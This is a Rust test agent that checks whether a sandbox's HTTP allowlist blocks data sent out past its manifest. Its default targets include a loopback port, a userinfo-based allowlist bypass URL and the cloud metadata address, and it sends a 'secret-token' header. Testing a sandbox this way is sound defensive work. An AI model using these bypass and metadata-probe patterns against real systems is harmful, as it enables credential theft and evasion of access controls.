//! Adversarial agent `http-exfil`: tries to send data to places its manifest
//! does not grant. The manifest allows only `http://allowed.invalid:80/api/*`;
//! the agent sends a GET to each target URL and records what happened.
//!
//! Targets come from the event payload `{"targets": ["http://...", ...]}`;
//! without it the defaults are a loopback port, the same port hidden behind
//! userinfo that names the allowed host (`http://allowed.invalid@127.0.0.1:9/`),
//! and the cloud metadata address. URLs are passed to `wasi:http` verbatim,
//! so the host's allowlist sees exactly what an attacker would write.
//!
//! The call never succeeds: `denied("all exfiltration attempts refused: ...")`
//! when every request failed, `internal("exfiltrated via ...")` if any
//! request got an HTTP response.

use evos_sdk::{Action, Agent, Error, Event};
use http_client::{Method, Url};
use serde::Deserialize;

const DEFAULT_TARGETS: [&str; 3] = [
    "http://127.0.0.1:9/exfil",
    "http://allowed.invalid@127.0.0.1:9/exfil",
    "http://169.254.169.254/latest/meta-data/",
];

#[derive(Deserialize, Default)]
struct Probe {
    targets: Option<Vec<String>>,
}

/// What happened to one request: `Ok(status)` when a response arrived.
fn attempt(target: &str) -> Result<u16, String> {
    let url = Url::parse_verbatim(target).map_err(|e| format!("not sent: {e}"))?;
    http_client::send(Method::Get, &url, &[("x-exfil", "secret-token")], &[])
        .map(|response| response.status)
        .map_err(|e| e.to_string())
}

struct HttpExfil;

impl Agent for HttpExfil {
    fn handle(event: Event) -> Result<Vec<Action>, Error> {
        let probe: Probe = if event.payload.trim().is_empty() {
            Probe::default()
        } else {
            evos_sdk::json::parse(&event.payload)?
        };
        let targets = probe
            .targets
            .unwrap_or_else(|| DEFAULT_TARGETS.iter().map(|t| t.to_string()).collect());

        let mut refused = Vec::new();
        let mut exfiltrated = Vec::new();
        for target in &targets {
            match attempt(target) {
                Ok(status) => exfiltrated.push(format!("{target} (HTTP {status})")),
                Err(reason) => refused.push(format!("{target}: {reason}")),
            }
        }
        if !exfiltrated.is_empty() {
            return Err(Error::Internal(format!(
                "exfiltrated via {}",
                exfiltrated.join(", ")
            )));
        }
        Err(Error::Denied(format!(
            "all exfiltration attempts refused: {}",
            refused.join("; ")
        )))
    }
}

evos_sdk::export_agent!(HttpExfil);
